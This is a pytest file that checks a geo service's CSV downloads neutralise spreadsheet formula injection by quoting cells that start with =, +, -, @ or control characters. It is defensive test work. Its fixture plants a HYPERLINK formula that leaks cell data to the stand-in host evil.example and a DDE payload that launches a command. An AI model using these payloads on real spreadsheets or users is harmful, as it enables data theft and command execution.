"""Spreadsheet formula injection (OWASP "CSV Injection"): a name such as =HYPERLINK(…) is a
text cell in both CSV downloads, never a formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from geo.store import Store
from geo.tabular import neutralise_cell
from service import create_app

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
AREA = "vollsmose"


@pytest.fixture(scope="module")
def client(demo_store_copy):
    path = demo_store_copy
    store = Store(path)
    with store.transaction() as w:
        areas = w.read("areas")
        areas.loc[areas["area_id"] == AREA, "name"] = FORMULA
        w.write("areas", areas.set_crs(25832, allow_override=True))
        info = w.read("municipality_info")
        info.loc[info["code"] == "0461", "name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
        w.write("municipality_info", info)
    app = create_app({"TESTING": True, "STORE_PATH": str(path), "ACCESS_LOG": False})
    return app.test_client()


DIALECTS = [("excel", ";"), ("rfc4180", ",")]


def _rows(response, delimiter: str) -> list[dict]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(text), delimiter=delimiter))


def _dangerous(cell: str) -> bool:
    return cell[:1] in "=+-@\t\r" or cell.lstrip()[:1] in "=+-@"


@pytest.mark.parametrize("dialect,delimiter", DIALECTS)
def test_area_csv_download(client, dialect, delimiter):
    rows = _rows(client.get(f"/api/areas?year=2024&format=csv&dialekt={dialect}"), delimiter)
    row = next(r for r in rows if r["area_id"] == AREA)
    assert row["name"] == "'" + FORMULA
    text_cells = [c for r in rows for k, c in r.items() if k and not k.startswith(("ind_", "cen"))]
    assert not any(_dangerous(c) for c in text_cells if c and not _is_number(c))
    assert float(row["centroid_lon"].replace(",", ".")) > 0  # numbers are still numbers


@pytest.mark.parametrize("dialect,delimiter", DIALECTS)
def test_flows_csv_download(client, dialect, delimiter):
    url = f"/api/flows.csv?level=area-municipality&dialekt={dialect}"
    rows = _rows(client.get(url), delimiter)
    names = {r["origin_name"] for r in rows} | {r["dest_name"] for r in rows}
    assert "'" + FORMULA in names
    assert not any(_dangerous(c) for r in rows for c in r.values() if c and not _is_number(c))
    assert any(r["movers"].isdigit() for r in rows)


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1+1", "@A1", "\t=1", "\r=1", "  =1", "\uff1d1", "\n=1"],
)
def test_neutralise_cell(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Vollsmose", "a=b", "", 5, -5.5, None, True])
def test_harmless_cells_unchanged(value):
    assert neutralise_cell(value) == value
